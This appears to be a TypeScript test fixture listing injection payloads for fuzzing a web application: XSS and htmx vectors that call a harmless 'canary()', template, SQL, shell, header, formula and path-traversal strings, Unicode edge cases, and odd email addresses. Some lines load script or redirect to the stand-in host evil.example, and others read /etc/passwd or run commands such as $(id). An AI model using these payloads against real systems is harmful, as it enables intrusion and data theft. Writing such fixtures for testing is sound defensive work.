// Strings that want to be more than text. Made here, so that one can see what they try.

/** What tries to run; `canary` is a function that each page has and that must never be called. */
const ACTIVE = [
  '<script>canary()</script>', '<script src=//evil.example/x.js></script>', '<img src=x onerror=canary()>', '<svg onload=canary()>', '<svg><script>canary()</script></svg>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,x"/></svg>', '<math href="javascript:canary()">x</math>', '<body onload=canary()>',
  '<iframe srcdoc="<script>parent.canary()</script>">', '<iframe src=javascript:canary()>', '<object data=javascript:canary()>', '<embed src=javascript:canary()>',
  '<a href=javascript:canary()>x</a>', '<a href="java\tscript:canary()">x</a>', '<form action=javascript:canary()><button>x</button></form>', '<button formaction=javascript:canary()>x</button>',
  '<input autofocus onfocus=canary()>', '<details open ontoggle=canary()>', '<video><source onerror=canary()></video>', '<audio src=x onerror=canary()>', '<marquee onstart=canary()>',
  '<style>*{display:none}</style>', '<style>@import"//evil.example"</style>', '<link rel=stylesheet href=//evil.example>', '<base href=//evil.example/>', '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<template><script>canary()</script></template>', '<noscript><p title="</noscript><img src=x onerror=canary()>">', '<div hx-get=/console hx-trigger=load>', '<div hx-get="//evil.example" hx-trigger="load">',
  '<div hx-on:load=canary()>', '<div hx-on::load="canary()">', '<div data-hx-get=/console data-hx-trigger=load>', '<div hx-vals="js:{x:canary()}" hx-get=/console hx-trigger=load>', '<div hx-ext=x hx-swap-oob=true id=main>',
  '<x style=behavior:url(#x)>', '<table background=javascript:canary()>', '<isindex action=javascript:canary() type=image>', '<scr<script>ipt>canary()</scr</script>ipt>', '<<script>canary();//<</script>',
];

/** What tries to get out of where it stands. */
const WAYS_OUT = ['', '">', "'>", '</title>', '</textarea>', '</td></tr></table>', '-->', '</script>', '" x="'];

/** What is no markup, but may be read as something else. */
const OTHERS = [
  // Attributes.
  '" onmouseover="canary()', "' onmouseover='canary()", '" autofocus onfocus="canary()" x="', '" hx-get="/console" hx-trigger="load" x="', '" hx-on::load="canary()" x="', '" style="position:fixed;inset:0" x="', '`onload=canary()', 'x onload=canary()',
  // Templates.
  '{{ canary() }}', '{{7*7}}', '{% raw %}', '{% include "console/base.html" %}', '{# gone #}', '${canary()}', '#{7*7}', '<%= 7*7 %>', '{{frame.form_token}}', '{{ frame.email|safe }}', '%{7*7}', '[[${7*7}]]',
  // Addresses.
  'javascript:canary()', 'JaVaScRiPt:canary()', 'data:text/html,<script>canary()</script>', '//evil.example', 'https://evil.example/', '/console//evil.example', 'vbscript:x', 'file:///etc/passwd', '../../etc/passwd', '..\\..\\x', '%2e%2e%2f', '?done=roles', '#resume', '&amp;', '&lt;script&gt;', '&#60;script&#62;', '&#x3c;script&#x3e;', '%3Cscript%3Ecanary()%3C/script%3E', '\\u003cscript\\u003e', '\\x3cscript\\x3e', '+ADw-script+AD4-',
  // Directions, widths, and what is not seen.
  '\u202Egnp.yek', '\u2066\u202Eabc\u2069', '\u200Fabc', 'a\u200Bb', '\u200D', '\uFEFFabc', 'a\u00ADb', '\u3164', 'a\u2028b', 'a\u2029b', '\u061Cabc', 'مفتاح', 'מפתח', 'کلید 123 key', 'نام <b>x</b>', 'キー', '钥匙', 'ключ', 'clé', 'Schlüssel', 'e\u0301', 'ﬁ', 'Ａｃｍｅ', 'Аcme', '🔑', '👨‍👩‍👧‍👦', '🏴󠁧󠁢󠁳󠁣󠁴󠁿', '❤️', '\u{1F600}'.repeat(60), 'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324', '\uD800', '\uDFFF',
  // Long words.
  'x'.repeat(100), 'W'.repeat(128), 'i'.repeat(129), 'm'.repeat(500), '𝕏'.repeat(100), 'ﷺ'.repeat(100), 'a-'.repeat(60), 'a.'.repeat(60), 'a/'.repeat(60), 'a_'.repeat(60), '\u00A0'.repeat(60), `a${'\u00A0a'.repeat(60)}`, 'a@'.repeat(60), '<'.repeat(120), '&'.repeat(120), '"'.repeat(120),
  // What programs take for nothing, or for another kind of thing.
  'null', 'undefined', 'NaN', 'true', 'false', '0', '-0', '-1', '1e309', '0x10', '[object Object]', '__proto__', 'constructor', 'toString', 'None', 'nil', '[]', '{}', '""', "''", '--', ';', ',', '.', '..', '/', '\\', '%', '%00', '%s%n', '*', '?', '~', '\u0000', 'a\u0000b', '\u0007', '\u001B[31mred', '\u007F', '\u0085',
  // Lines and headers.
  'a\r\nb', 'a\nb', 'a\rb', 'a\tb', 'a\r\nSet-Cookie: x=y', 'a%0d%0aSet-Cookie:%20x=y', 'a\r\n\r\n<script>canary()</script>', '\nBcc: evil@example.com',
  // Other languages.
  "' OR 1=1 --", "'; DROP TABLE keys; --", '" OR ""="', '$(id)', '`id`', '| id', '&& id', '=1+1', '=cmd|x!A1', '@SUM(1)', '+1', '-1+1', '${jndi:ldap://evil.example}', '<!--#exec cmd="id"-->', '<?php echo 1 ?>', '<!ENTITY x SYSTEM "file:///etc/passwd">', '*)(uid=*', '{"$ne":null}', '\\', 'a\\', '%n%n%n',
];

/** All of them, each once. */
export const PAYLOADS: string[] = [...new Set([...WAYS_OUT.flatMap((out) => ACTIVE.map((active) => out + active)), ...OTHERS])];

/** Addresses of mail that are allowed and still look like something else (RFC 5322, section 3.2.3). */
export const ADDRESSES = ["'-canary`1`-'@example.com", '{{7*7}}@example.com', '${7*7}@example.com', "'or'1'='1@example.com", '&lt&gt@example.com', `${'w'.repeat(64)}@example.com`, '#resume@example.com', '`id`@example.com', '__proto__@example.com', '=1+1@example.com'];
